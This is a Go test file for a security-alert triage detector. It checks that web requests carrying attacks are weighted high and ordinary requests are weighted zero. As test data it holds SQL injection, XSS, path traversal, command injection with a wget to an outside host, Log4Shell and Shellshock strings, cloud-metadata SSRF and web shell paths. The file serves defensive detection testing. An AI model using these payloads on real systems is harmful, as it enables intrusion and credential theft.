package check_test

import (
	"testing"

	"github.com/seed-959697dd/soc/alert"
	"github.com/seed-959697dd/soc/internal/check"
	"github.com/seed-959697dd/soc/triage"
)

func link(s string) *alert.Alert { return with(alert.EntitySlot(alert.Target, alert.URL), s) }

func agent(s string) *alert.Alert { return with(alert.SlotUserAgent, s) }

func TestWebAttacks(t *testing.T) {
	t.Parallel()
	weighs(t, check.WebRequests(), map[string]weighed{
		"union":                        {1700, link("/item.php?id=1+UNION+SELECT+user,password+FROM+users--")},
		"union behind comments":        {1700, link("/item?id=1/**/union/**/select/**/1,2,3")},
		"a quote closed":               {1500, link("/login?user=admin%27%20or%20%271%27=%271")},
		"always true":                  {1500, link("/item?id=5%20or%201=1")},
		"a wait":                       {1700, link("/item?id=1%27;WAITFOR%20DELAY%20%270:0:5%27--")},
		"a sleep":                      {1700, link("/item?id=1%20and%20sleep(5)")},
		"script":                       {1500, link("/search?q=%3Cscript%3Ealert(1)%3C/script%3E")},
		"script twice encoded":         {1500, link("/search?q=%253Cscript%253Ealert(1)%253C/script%253E")},
		"an image that fails":          {1500, link("/search?q=<img src=x onerror=alert(1)>")},
		"passwd":                       {1700, link("/show?file=../../../../etc/passwd")},
		"a climb":                      {1500, link("/static/..%2f..%2f..%2f..%2fvar/log/app.log")},
		"a wrapper":                    {1700, link("/index.php?page=php://filter/convert.base64-encode/resource=index")},
		"a foreign script":             {1100, link("/index.php?page=http://203.0.113.9/x.txt")},
		"a command":                    {1800, link("/ping?host=192.0.2.1;wget%20http://203.0.113.9/a")},
		"a command in backquotes":      {1800, link("/ping?host=`whoami`")},
		"a command in brackets":        {1800, link("/ping?host=$(id)")},
		"log4shell":                    {2400, agent("${jndi:ldap://203.0.113.9/a}")},
		"log4shell, hidden":            {2400, link("/?x=${${lower:j}ndi:${lower:l}dap://203.0.113.9/a}")},
		"shellshock":                   {2400, agent("() { :; }; /bin/bash -c 'id'")},
		"a template":                   {1600, link("/hello?name={{7*7}}")},
		"the cloud's credentials":      {2000, link("/fetch?url=http://169.254.169.254/latest/meta-data/iam/")},
		"a web shell by name":          {2000, link("https://shop.example.com/images/c99.php")},
		"a web shell by deed":          {2000, link("/x/help.php?cmd=whoami")},
		"a script among uploads":       {1300, link("/wp-content/uploads/2026/05/a.php")},
		"a known hole":                 {1700, link("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php")},
		"secrets":                      {1000, link("https://shop.example.com/.env")},
		"a repository":                 {1000, link("/.git/config")},
		"sqlmap":                       {1800, agent("sqlmap/1.7#stable (https://sqlmap.org)")},
		"nmap":                         {1400, agent("Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)")},
		"a scanner that may be ours":   {500, agent("Nessus SOAP")},
		"a line of a log":              {1700, with(alert.SlotMessage, `198.51.100.7 - - [01/May/2026:10:00:00 +0000] "GET /a?f=/etc/passwd HTTP/1.1" 200 99`)},
		"a serialised object":          {1700, link("/api?s=rO0ABXNyABFqYXZhLnV0aWwu")},
		"a serialised object of PHP":   {1700, link(`/api?s=O:8:"Evil_Obj":1:{s:1:"a";i:1;}`)},
		"a referrer that is an attack": {1500, with(alert.SlotReferrer, "https://a.example.com/?q=<script>alert(1)</script>")},
	})
}

func TestOrdinaryRequests(t *testing.T) {
	t.Parallel()
	rows := map[string]weighed{}
	for _, s := range []string{
		"https://www.example.com/", "/search?q=select+a+seat+in+union+square", "/search?q=credit+union+select+committee", "/shop?sort=price&order=asc&id=5",
		"/api/v1/users?filter=name eq 'O''Brien' and active", "/docs/javascript/index.html", "/a?next=%2Fhome%2Fuser", "/a?return=https://www.example.com/index.php",
		"https://update.example.com/v6/windowsupdate/redir/wuredir.cab", "http://169.254.169.254/latest/meta-data/instance-id", "/static/../img/logo.png",
		"/repo.git/info/refs?service=git-upload-pack", "/assets/app.min.js?v=1.2.3", "/images/logo.png", "/upload/form", "/cart?coupon=50%25+off", "/calendar?title=lunch+%26+learn",
		"/environment/list", "/blog/how-to-use-wget-and-curl", "/api?cmd=refresh", "/search?q=rock+%26%26+roll", "/tr?id=12;jsessionid=AB12", "/q?x=1&id=3&ls=4",
		"/wiki/Cat_(Unix)", "/files/report.pdf", "https://login.example.com/oauth2/authorize?client_id=1&redirect_uri=https%3A%2F%2Fapp.example.com%2Fcb&scope=openid+profile",
		"/v2/price?currency=${currency}", "/a?b={{name}}", "/t?text=it's+5+or+6", "/products?range=10..20", "/hotel?date=2026-05-01&guests=2", "/.well-known/security.txt",
		"/api/graphql?query=%7Buser(id:1)%7Bname%7D%7D", "/w?u=%E2%82%AC%20100%", "/sleep(5)ways",
	} {
		rows[s] = weighed{0, link(s)}
	}
	for _, s := range []string{
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36", "Debian APT-HTTP/1.3 (2.4.9)", "curl/8.5.0",
		"python-requests/2.31", "Prometheus/2.51", "kube-probe/1.29", "Microsoft-Delivery-Optimization/10.0", "Go-http-client/2.0", "Googlebot/2.1 (+http://www.google.com/bot.html)",
	} {
		rows[s] = weighed{0, agent(s)}
	}
	rows["a message without a request"] = weighed{0, with(alert.SlotMessage, "user ran cat /etc/passwd; whoami")}
	weighs(t, check.WebRequests(), rows)
}

func BenchmarkWebRequests(b *testing.B) {
	a := with(alert.EntitySlot(alert.Target, alert.URL), "https://shop.example.com/item?id=77&sort=price&page=2",
		alert.SlotUserAgent, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36")
	c := check.WebRequests()
	b.ReportAllocs()
	for b.Loop() {
		c.Check(a, func(triage.Signal) {})
	}
}
